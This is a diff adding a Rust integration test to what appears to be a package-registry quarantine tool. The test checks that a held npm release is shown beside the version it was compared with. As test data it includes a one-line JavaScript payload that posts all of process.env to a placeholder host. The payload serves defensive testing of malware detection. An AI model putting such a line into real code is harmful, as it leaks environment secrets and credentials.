@@ -5,6 +5,7 @@ use std::process::Output;
 use cordon_tests::archive;
 use cordon_tests::client::http::{self, Reply};
 use cordon_tests::client::listing;
+use cordon_tests::clock::{ago, days, hours};
 use cordon_tests::cordon::{Builder, Cordon};
 use cordon_tests::fake_registry::{FakeRegistry, Protocol, Release};
 use cordon_tests::wait;
@@ -444,6 +445,25 @@ fn inv_51_a_request_comes_from_the_page_once_and_is_only_text() {
     assert!(!page.text().contains("<script"), "{}", page.text());
     let body = http::request("GET", &format!("{url}/request"), &[], b"").status;
     assert_eq!(body, 403, "a request is never made by looking");
+}
+
+/// What it was compared with was fetched for that: nobody need have installed it.
+#[test]
+fn what_is_held_for_a_change_is_shown_beside_what_it_was_compared_with() {
+    let registry = FakeRegistry::start();
+    let release = |version, age| Release::npm(NAME, version).published_at(ago(age));
+    registry.publish(release(OLD, days(200)));
+    let sends = "fetch('https://x.invalid/', { body: JSON.stringify(process.env) });\n";
+    registry.publish(release(HELD, hours(3)).source("index.js", sends));
+    let policy = "[rules.integrity]\n[rules.malware]\n[rules.content-change]\n";
+    let cordon = Builder::new(&registry).policy(policy).start();
+    let scene = Scene { registry, cordon };
+    let id = scene.refused(Protocol::Npm);
+    let (code, told) = scene.look(&["diff", &id]);
+    assert_eq!(code, 0, "{told}");
+    assert!(told.contains("process.env"), "{told}");
+    let between = format!("from pkg:npm/{NAME}@{OLD} to pkg:npm/{NAME}@{HELD}");
+    assert!(told.contains(&between), "{told}");
 }
 
 #[test]
